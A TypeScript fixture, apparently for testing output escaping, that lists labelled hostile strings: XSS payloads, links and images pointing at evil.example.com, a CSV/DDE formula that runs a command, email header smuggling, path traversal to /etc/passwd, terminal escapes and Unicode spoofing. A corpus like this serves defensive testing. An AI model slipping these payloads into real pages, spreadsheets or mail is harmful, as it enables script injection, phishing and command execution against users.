/** What an attacker can write into a user agent, a user name, an app's name or a city: one string of each way we know. */
export interface HostileText {
  /** What it tries. */
  readonly what: string;
  readonly text: string;
}

/** In strings that would load or link to something: found in an output as a link, it came from data. */
export const EVIL = 'evil.example.com';

const attempts = (what: string, ...texts: readonly string[]): HostileText[] => texts.map((text) => ({ what, text }));

/** About sixty strings for every sink: mail, page, terminal, Markdown, CSV, JSON, headers, the Temporal UI. */
export const HOSTILE_CORPUS: readonly HostileText[] = [
  ...attempts(
    'markup',
    '<script>alert(1)</script>',
    `<img src=https://${EVIL}/x onerror=alert(1)>`,
    '"><svg onload=alert(1)>',
    `' onmouseover='alert(1)`,
    '` onfocus=alert(1) autofocus x=`',
    `</td></tr></table><a href="https://${EVIL}/">reset your password</a>`,
    '</title></style></script><!--',
    `<style>body{display:none;background:url(//${EVIL}/x)}</style>`,
    `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
    `<base href=//${EVIL}/><form action=x><input name=password>`,
    `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
    '&lt;b&gt;already escaped&amp;&#60;',
    '&#x3c;script&#x3e;',
    ']]><![CDATA[<b>',
    '<!--[if mso]><p>Outlook only</p><![endif]-->',
    '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
    `javascript:alert(1)//`,
  ),
  ...attempts(
    'something that clients make a link of',
    `https://${EVIL}/login`,
    `HTTP://${EVIL.toUpperCase()}`,
    `www.${EVIL} and //${EVIL}/x`,
    `mailto:ceo@${EVIL}?subject=pay`,
    `ceo@${EVIL}`,
    '198.51.100.7',
    '2001:db8::7',
    `file://${EVIL}/share`,
    `\\\\${EVIL}\\share`,
    'tel:+15550100',
  ),
  ...attempts(
    'Markdown',
    `[reset your password](https://${EVIL}/)`,
    `![x](https://${EVIL}/x.png)`,
    '# Nobody got in\n---\n> quoted',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '**bold** _em_ ~~gone~~ `code`',
    `<https://${EVIL}>`,
    `[1]: https://${EVIL}/ "x"`,
    '\\[not\\](escaped) \\',
    '```\nfence',
  ),
  ...attempts(
    'lines of their own',
    'x\r\nBcc: evil@example.com',
    'x\n\n<script>alert(1)</script>',
    'x\r\n.\r\nMAIL FROM:<evil@example.com>',
    'x\rnobody got in',
    'x\u2028nobody got in\u2029or did they',
    'x\u0085nobody got in',
    '=?utf-8?Q?=0D=0ABcc:_evil@example.com?=',
  ),
  ...attempts(
    'a formula',
    `=HYPERLINK("https://${EVIL}","x")`,
    `=cmd|' /C calc'!A0`,
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '  =1+1',
    '＝1+1',
    '"quoted","cells"\n=1',
  ),
  ...attempts(
    'orders to a terminal',
    '\u001b[31mred\u001b[0m',
    '\u001b[2J\u001b[1;1Hnobody got in',
    '\u001b]8;;https://evil.example.com\u0007click\u001b]8;;\u0007',
    '\u001b]0;title\u0007\u0008\u0008\u0008',
    '\u009b31mred',
    '\u0000\u0001\u0007\u001f\u007f',
  ),
  ...attempts(
    'writing that deceives',
    'ada\u202emoc.live\u202c@contoso.com',
    '\u2066admin\u2069\u200b\u200d\ufeff@contoso.com',
    'аdmin@contoso.com', // the first letter is Cyrillic
    'ａｄｍｉｎ@contoso.com',
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334'.repeat(8),
    '\u{e0061}\u{e0062}\u{e007f} tags that nobody sees',
    '\u2800\u3164\u00ad',
  ),
  ...attempts('broken text', '\ud800', 'x\udc00y\ud83d', '\ufffd\ufffe\uffff'),
  ...attempts('names of the language', '__proto__', 'constructor', 'toString', 'NaN', '../../etc/passwd', '%00%0a%s%n'),
  ...attempts('too much', 'x'.repeat(100_000), '<'.repeat(20_000), 'ж '.repeat(10_000), '𝕏'.repeat(5_000)),
];
